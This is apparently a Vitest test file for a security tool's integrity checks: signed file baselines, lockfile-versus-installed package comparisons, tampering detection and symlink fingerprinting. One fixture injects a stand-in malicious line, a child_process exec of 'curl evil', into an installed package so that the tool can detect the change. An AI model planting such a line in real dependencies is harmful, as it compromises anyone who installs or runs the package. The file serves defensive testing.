import { chmodSync, readFileSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { tempDir } from "../../tests/harness.js";
import { fakeIntegrity, fixtureContext, TODAY, writeAt, writeFixtureApp } from "./app-root.fixture.js";
import type { CheckId } from "./catalog.js";
import { fingerprintFiles } from "./fingerprint.js";
import { applicationRoots, compareFiles, readBaseline, recordBaseline, type Baseline } from "./integrity.js";
import type { CheckResult } from "./report.js";
import { runChecks, type CheckContext } from "./run-checks.js";

const CHECKED: CheckId[] = ["OG-INT-001", "OG-INT-002", "OG-INT-003", "OG-DEP-001"];

describe("the integrity baseline of a fixture application", () => {
  let dir: string;
  let appRoot: string;
  let configPath: string;
  let model: string;
  let context: CheckContext;

  beforeEach(() => {
    dir = tempDir("opsguard-integrity-");
    appRoot = writeFixtureApp(join(dir, "app"));
    configPath = writeAt(dir, "opsguard.yaml", "server:\n  port: 8080\n");
    model = writeAt(dir, "models/weights.bin", "0123456789");
    context = fixtureContext({
      dataDir: join(dir, "data"),
      appRoot,
      configPath,
      config: { security: { paths: [join(dir, "models")] } },
    });
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  /** The results of the integrity checks and OG-DEP-001, by id. */
  const check = async (): Promise<Record<string, CheckResult>> =>
    Object.fromEntries((await runChecks(context, CHECKED)).map((result) => [result.id, result]));
  const statuses = (results: Record<string, CheckResult>) =>
    Object.fromEntries(Object.entries(results).map(([id, result]) => [id, result.status]));
  const rewrite = (path: string, edit: (text: string) => string) =>
    writeFileSync(path, edit(readFileSync(path, "utf8")));

  it("records the application's files, the config file and the configured paths, and then finds them unchanged", async () => {
    const baseline = await recordBaseline(context.integrity, TODAY);
    expect(Object.keys(baseline.files).sort()).toEqual([
      "app:dist/cli/run.js",
      "app:dist/main.js",
      "app:node_modules/@acme/widget/lib/index.js",
      "app:node_modules/@acme/widget/package.json",
      "app:node_modules/left-pad-fixture/index.js",
      "app:node_modules/left-pad-fixture/package.json",
      "app:package-lock.json",
      "app:package.json",
      `config:${configPath}`,
      `path:${model}`,
    ]);
    expect(baseline.createdAt).toBe(new Date(TODAY).toISOString());
    // The baseline and its key are secrets of the data folder: readable by their owner only.
    expect(statSync(context.integrity.baselineFile).mode & 0o777).toBe(0o600);
    expect(statSync(context.integrity.keyFile).mode & 0o777).toBe(0o600);

    const results = await check();
    expect(statuses(results)).toEqual({
      "OG-INT-001": "ok",
      "OG-INT-002": "ok",
      "OG-INT-003": "ok",
      "OG-DEP-001": "ok",
    });
    expect(results["OG-INT-001"]!.evidence[0]).toMatch(
      /10 files, recorded 2026-12-01T12:00:00.000Z .*signature verified/,
    );
    expect(results["OG-INT-002"]!.evidence).toEqual([
      "8 files match the baseline of 2026-12-01T12:00:00.000Z",
    ]);
    expect(results["OG-INT-003"]!.evidence).toEqual([
      "2 files match the baseline of 2026-12-01T12:00:00.000Z",
    ]);
  });

  it("warns that there is no baseline, and cannot compare the files without one", async () => {
    const results = await check();
    expect(results["OG-INT-001"]).toMatchObject({
      status: "warning",
      evidence: [`${context.integrity.baselineFile} does not exist: nothing to compare the files with`],
    });
    expect(results["OG-INT-002"]).toMatchObject({
      status: "unavailable",
      reason: "no baseline has been recorded",
    });
    expect(results["OG-INT-003"]!.status).toBe("unavailable");
  });

  it("finds a changed, an added and a removed file of dist/ (OG-INT-002)", async () => {
    await recordBaseline(context.integrity, TODAY);
    writeAt(appRoot, "dist/main.js", "export const main = 'patched';\n");
    writeAt(appRoot, "dist/backdoor.js", "export {};\n");
    unlinkSync(join(appRoot, "dist/cli/run.js"));

    const results = await check();
    expect(results["OG-INT-002"]).toMatchObject({
      status: "critical",
      evidence: ["changed: app:dist/main.js", "added: app:dist/backdoor.js", "removed: app:dist/cli/run.js"],
    });
    expect(results["OG-INT-002"]!.recommendation).toMatch(/npm ci/);
    expect(statuses(results)).toMatchObject({ "OG-INT-001": "ok", "OG-INT-003": "ok", "OG-DEP-001": "ok" });
  });

  it("finds a change to the config file (OG-INT-003), not to the application", async () => {
    await recordBaseline(context.integrity, TODAY);
    rewrite(configPath, (text) => text.replace("8080", "9090"));

    const results = await check();
    expect(results["OG-INT-003"]).toMatchObject({
      status: "critical",
      evidence: [`changed: config:${configPath}`],
    });
    expect(results["OG-INT-002"]!.status).toBe("ok");
  });

  it("finds a changed and an added file under a configured path (OG-INT-003)", async () => {
    await recordBaseline(context.integrity, TODAY);
    writeFileSync(model, "9876543210");
    const added = writeAt(dir, "models/extra.bin", "x");

    const results = await check();
    expect(results["OG-INT-003"]).toMatchObject({
      status: "critical",
      evidence: [`changed: path:${model}`, `added: path:${added}`],
    });
  });

  it("finds a file changed inside an installed package (OG-INT-002), which the lockfile check cannot see", async () => {
    await recordBaseline(context.integrity, TODAY);
    writeAt(
      appRoot,
      "node_modules/@acme/widget/lib/index.js",
      "require('child_process').exec('curl evil');\n",
    );

    const results = await check();
    expect(results["OG-INT-002"]).toMatchObject({
      status: "critical",
      evidence: ["changed: app:node_modules/@acme/widget/lib/index.js"],
    });
    expect(results["OG-DEP-001"]!.status).toBe("ok");
  });

  it("finds an installed package whose version is not the lockfile's (OG-DEP-001 and OG-INT-002)", async () => {
    await recordBaseline(context.integrity, TODAY);
    writeAt(appRoot, "node_modules/left-pad-fixture/package.json", {
      name: "left-pad-fixture",
      version: "1.2.1",
    });

    const results = await check();
    expect(results["OG-DEP-001"]).toMatchObject({
      status: "critical",
      evidence: ["version: node_modules/left-pad-fixture is 1.2.1, the lockfile says 1.2.0"],
    });
    expect(results["OG-INT-002"]!.evidence).toEqual([
      "changed: app:node_modules/left-pad-fixture/package.json",
    ]);
  });

  it("finds a package installed from another tarball than the lockfile's (OG-DEP-001)", async () => {
    await recordBaseline(context.integrity, TODAY);
    rewrite(join(appRoot, "node_modules/.package-lock.json"), (text) =>
      text.replace(fakeIntegrity(2), fakeIntegrity(9)),
    );

    const results = await check();
    expect(results["OG-DEP-001"]).toMatchObject({
      status: "critical",
      evidence: [
        `integrity: node_modules/@acme/widget was installed from ${fakeIntegrity(9)}, the lockfile says ${fakeIntegrity(2)}`,
      ],
    });
  });

  it("distrusts a baseline edited without the key (OG-INT-001 critical), and compares nothing with it", async () => {
    await recordBaseline(context.integrity, TODAY);
    // Whoever changed dist/main.js "fixes" the baseline to match, without the key.
    writeAt(appRoot, "dist/main.js", "export const main = 'patched';\n");
    const baseline = JSON.parse(readFileSync(context.integrity.baselineFile, "utf8")) as Baseline;
    baseline.files["app:dist/main.js"] = fingerprintFiles([
      { label: "app", path: join(appRoot, "dist/main.js"), relativeTo: appRoot },
    ])["app:dist/main.js"]!;
    writeFileSync(context.integrity.baselineFile, JSON.stringify(baseline));

    const results = await check();
    expect(results["OG-INT-001"]).toMatchObject({
      status: "critical",
      evidence: [
        `${context.integrity.baselineFile}: the signature does not match its contents (edited without the key in ${context.integrity.keyFile})`,
      ],
    });
    for (const id of ["OG-INT-002", "OG-INT-003"])
      expect(results[id]).toMatchObject({
        status: "unavailable",
        reason: "the baseline is not trusted (OG-INT-001)",
      });
  });

  it("distrusts a baseline that is not JSON, is not a baseline, or whose key is gone or changed", async () => {
    const { baselineFile, keyFile } = context.integrity;
    await recordBaseline(context.integrity, TODAY);
    const recorded = readFileSync(baselineFile, "utf8");

    writeFileSync(baselineFile, "{ not json");
    expect(readBaseline(context.integrity)).toMatchObject({
      state: "untrusted",
      why: expect.stringContaining(`${baselineFile} cannot be read`),
    });
    writeFileSync(baselineFile, JSON.stringify({ format: 2, files: {}, signature: "" }));
    expect(readBaseline(context.integrity)).toEqual({
      state: "untrusted",
      why: `${baselineFile} is not an opsguard baseline`,
    });

    writeFileSync(baselineFile, recorded);
    expect(readBaseline(context.integrity).state).toBe("trusted");
    chmodSync(keyFile, 0o600);
    writeFileSync(keyFile, `${"f".repeat(64)}\n`);
    expect(readBaseline(context.integrity)).toMatchObject({
      state: "untrusted",
      why: expect.stringContaining("the signature does not match"),
    });
    writeFileSync(keyFile, "short\n");
    expect(readBaseline(context.integrity)).toMatchObject({
      state: "untrusted",
      why: expect.stringContaining("a key of at least 32 characters is needed"),
    });
    unlinkSync(keyFile);
    expect(readBaseline(context.integrity)).toMatchObject({
      state: "untrusted",
      why: expect.stringContaining("the baseline key cannot be read"),
    });
  });

  it("keeps the key of the first baseline when a new one is recorded: the old signature stays valid", async () => {
    await recordBaseline(context.integrity, TODAY);
    const key = readFileSync(context.integrity.keyFile, "utf8");
    writeAt(appRoot, "dist/main.js", "export const main = 'intended';\n");
    await recordBaseline(context.integrity, TODAY + 60_000);
    expect(readFileSync(context.integrity.keyFile, "utf8")).toBe(key);
    const results = await check();
    expect(statuses(results)).toMatchObject({ "OG-INT-001": "ok", "OG-INT-002": "ok" });
  });
});

describe("applicationRoots", () => {
  it("lists package.json, the lockfile, dist/ and each top-level production package, not dev or nested ones", () => {
    const dir = tempDir("opsguard-roots-");
    try {
      const appRoot = writeFixtureApp(dir);
      const lockfile = JSON.parse(readFileSync(join(appRoot, "package-lock.json"), "utf8")) as {
        packages: Record<string, unknown>;
      };
      lockfile.packages["node_modules/left-pad-fixture/node_modules/inner"] = { version: "1.0.0" };
      writeAt(appRoot, "package-lock.json", lockfile);
      expect(applicationRoots(appRoot).map((root) => root.path)).toEqual([
        join(appRoot, "package.json"),
        join(appRoot, "package-lock.json"),
        join(appRoot, "dist"),
        join(appRoot, "node_modules/left-pad-fixture"),
        join(appRoot, "node_modules/@acme/widget"),
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("fingerprintFiles", () => {
  it("records a symbolic link as its target without following it, and skips a missing root", () => {
    const dir = tempDir("opsguard-fingerprint-");
    try {
      writeAt(dir, "tree/a.txt", "a");
      symlinkSync("/etc", join(dir, "tree/out"));
      const files = fingerprintFiles([
        { label: "path", path: join(dir, "tree") },
        { label: "path", path: join(dir, "missing") },
      ]);
      expect(files).toEqual({
        [`path:${join(dir, "tree/a.txt")}`]:
          "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
        [`path:${join(dir, "tree/out")}`]: "symlink:/etc",
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("compareFiles", () => {
  it("compares only the entries whose label is asked for", () => {
    const baseline = { "app:a": "1", "app:b": "2", "config:/c": "3", "path:/p": "4" };
    const current = { "app:a": "1", "app:b": "9", "config:/c": "3", "path:/q": "5" };
    expect(compareFiles(baseline, current, ["app"])).toEqual({
      changed: ["app:b"],
      added: [],
      removed: [],
      compared: 2,
    });
    expect(compareFiles(baseline, current, ["config", "path"])).toEqual({
      changed: [],
      added: ["path:/q"],
      removed: ["path:/p"],
      compared: 2,
    });
  });
});
